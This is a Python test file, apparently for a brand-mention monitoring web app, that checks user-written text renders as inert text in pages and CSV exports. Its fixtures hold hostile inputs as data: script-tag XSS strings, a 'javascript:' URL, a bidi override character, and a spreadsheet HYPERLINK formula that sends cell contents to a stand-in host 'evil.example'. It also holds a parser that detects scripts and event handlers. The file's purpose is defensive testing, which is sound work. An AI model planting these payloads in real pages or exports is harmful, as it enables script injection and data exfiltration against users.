"""What strangers write is text everywhere: no element, attribute or script comes of it on any page, in mail, in Slack,
or in an export that a spreadsheet opens."""

import csv
import io
from html.parser import HTMLParser

import pytest

from api.operations import operations
from listener.items import Author

from .conftest import HOSTILE, House

pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)

LARGE = "Lumbra <script>alert(1)</script> " + "x" * 2**20
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Lumbra")'
NAME = '"><script>alert("lumbra")</script>'
HANDLERS = ("on", "style")
BIDI = "\u202e"


class Seen(HTMLParser):
    """The elements of a page that can act: scripts, and attributes with code or addresses with one."""

    def __init__(self) -> None:
        super().__init__()
        self.acting: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "script" and not (found.get("src") or "").startswith("/static/"):
            self.acting.append(f"script {attrs}")
        if tag in ("iframe", "object", "embed", "base"):
            self.acting.append(tag)
        for name, value in attrs:
            if name.startswith(HANDLERS) or (value or "").strip().lower().startswith(("javascript:", "data:")):
                self.acting.append(f"{tag} {name}={value}")


@pytest.fixture
def hostile(full_house: House) -> House:
    author = Author("a9", handle=NAME, name=f"{NAME}{BIDI}")
    full_house.hear(20, LARGE, "detractor", author=author, url="javascript:alert(1)")
    full_house.hear(21, f"{FORMULA} Lumbra", "promoter", author=Author("a8", handle=FORMULA), url="https://x.example/1")
    full_house.hear(22, f"Lumbra {HOSTILE}", "promoter", author=author, title=f"{NAME}{BIDI}")
    full_house.judge_and_tell()
    return full_house


def test_no_page_has_anything_that_acts(hostile: House) -> None:
    client = hostile.client(headers=None)
    asked = 0
    for one in operations():
        if not one.page or one.public or one.method != "GET" or one.path.startswith("/me"):
            continue
        path = one.path.replace("{alert_id}", "1").replace("{brand_id}", "1").replace("{user_id}", "1")
        for number in ("3", "6", "7", "8") if "{mention_id}" in path else ("",):
            answer = client.get(path.replace("{mention_id}", number))
            if answer.status_code != 200:
                continue
            seen = Seen()
            seen.feed(answer.text)
            assert (path, seen.acting) == (path, [])
            assert BIDI not in answer.text
            assert "\x00" not in answer.text
            assert len(answer.text) < 400_000
            asked += 1
    assert asked > 8


def test_no_cell_of_an_export_is_a_formula(hostile: House) -> None:
    client = hostile.client()
    csv.field_size_limit(2**22)
    for kind in ("mentions", "promoters", "alerts"):
        answer = client.get(f"/api/v1/exports/{kind}.csv")
        assert answer.status_code == 200
        cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
        assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "@", "\t", "\r"))]
    assert "HYPERLINK" in client.get("/api/v1/exports/mentions.csv").text
